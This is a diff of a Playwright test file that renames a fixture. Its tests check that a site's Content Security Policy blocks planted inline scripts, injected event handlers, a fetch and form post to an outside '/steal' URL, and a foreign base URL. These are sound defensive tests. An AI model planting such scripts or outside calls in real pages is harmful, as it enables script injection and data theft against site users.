@@ -1,6 +1,6 @@
 import type { Page } from '@playwright/test'
 import { expect, test } from './support/fixtures.ts'
-import { type Complaints, untilHydrated } from './support/phone.ts'
+import { type BrowserErrors, untilHydrated } from './support/phone.ts'
 
 declare global {
   interface Window {
@@ -22,38 +22,38 @@ const plants: [what: string, html: string, directive: string][] = [
 ]
 
 for (const [what, html, directive] of plants) {
-  test(`blocks ${what} in the login page, with one violation`, async ({ page, complaints }) => {
+  test(`blocks ${what} in the login page, with one violation`, async ({ page, browserErrors }) => {
     await plant(page, '/login', html)
-    await expectOneViolation(page, '/login', complaints, directive)
+    await expectOneViolation(page, '/login', browserErrors, directive)
   })
 }
 
 for (const path of ['/home', '/game_type/Kesar_Mahal', '/privacy-policy', '/no-such-page']) {
-  test(`blocks a script in ${path}, with one violation`, async ({ page, complaints }) => {
-    complaints.allow(/status of 404/)
+  test(`blocks a script in ${path}, with one violation`, async ({ page, browserErrors }) => {
+    browserErrors.allow(/status of 404/)
     await plant(page, path, '<script>window.planted = "ran"</script>')
-    await expectOneViolation(page, path, complaints, 'script-src-elem inline')
+    await expectOneViolation(page, path, browserErrors, 'script-src-elem inline')
   })
 }
 
-test('blocks a script that a script of the page adds later', async ({ page, complaints }) => {
+test('blocks a script that a script of the page adds later', async ({ page, browserErrors }) => {
   await page.goto('/login')
   await untilHydrated(page)
   await page.evaluate(() => {
     document.body.insertAdjacentHTML('beforeend', '<button onclick="window.planted = 1">!</button>')
     document.querySelector<HTMLElement>('body > button')?.click()
   })
-  await expect.poll(() => violations(complaints.found)).toHaveLength(1)
-  expect(violations(complaints.found)[0]).toContain('CSP: script-src-attr inline')
+  await expect.poll(() => violations(browserErrors.found)).toHaveLength(1)
+  expect(violations(browserErrors.found)[0]).toContain('CSP: script-src-attr inline')
   expect(await page.evaluate(() => window.planted)).toBeUndefined()
-  complaints.forget()
+  browserErrors.forget()
 })
 
-test('blocks calls and forms to other hosts', async ({ page, complaints }) => {
+test('blocks calls and forms to other hosts', async ({ page, browserErrors }) => {
   await page.goto('/login')
   await untilHydrated(page)
   await page.evaluate(url => fetch(url).catch(() => {}), `${ELSEWHERE}/steal`)
-  await expect.poll(() => violations(complaints.found)).toHaveLength(1)
+  await expect.poll(() => violations(browserErrors.found)).toHaveLength(1)
   await page.evaluate(url => {
     const form = document.createElement('form')
     form.action = url
@@ -61,18 +61,18 @@ test('blocks calls and forms to other hosts', async ({ page, complaints }) => {
     document.body.append(form)
     form.submit()
   }, `${ELSEWHERE}/steal`)
-  await expect.poll(() => violations(complaints.found)).toHaveLength(2)
-  expect(violations(complaints.found).map(text => text.split(' ')[1])).toEqual([
+  await expect.poll(() => violations(browserErrors.found)).toHaveLength(2)
+  expect(violations(browserErrors.found).map(text => text.split(' ')[1])).toEqual([
     'connect-src',
     'form-action',
   ])
   expect(new URL(page.url()).pathname).toBe('/login')
-  complaints.forget()
+  browserErrors.forget()
 })
 
-test('blocks another base URL for links and scripts', async ({ page, complaints }) => {
+test('blocks another base URL for links and scripts', async ({ page, browserErrors }) => {
   // Chromium reports a base more than once.
-  complaints.allow(/base-uri/)
+  browserErrors.allow(/base-uri/)
   await plant(page, '/login', `<base href="${ELSEWHERE}/">`)
   await page.goto('/login')
   await untilHydrated(page)
@@ -82,16 +82,16 @@ test('blocks another base URL for links and scripts', async ({ page, complaints 
 async function expectOneViolation(
   page: Page,
   path: string,
-  complaints: Complaints,
+  browserErrors: BrowserErrors,
   directive: string,
 ): Promise<void> {
   await page.goto(path)
   await page.waitForLoadState('networkidle')
-  expect(violations(complaints.found)).toHaveLength(1)
-  expect(violations(complaints.found)[0]).toContain(`CSP: ${directive}`)
+  expect(violations(browserErrors.found)).toHaveLength(1)
+  expect(violations(browserErrors.found)[0]).toContain(`CSP: ${directive}`)
   expect(await page.evaluate(() => window.planted)).toBeUndefined()
   await expect(page.locator('main')).toBeVisible()
-  complaints.forget()
+  browserErrors.forget()
 }
 
 /** The page as the server sends it, with something put in as the last thing of its body. */
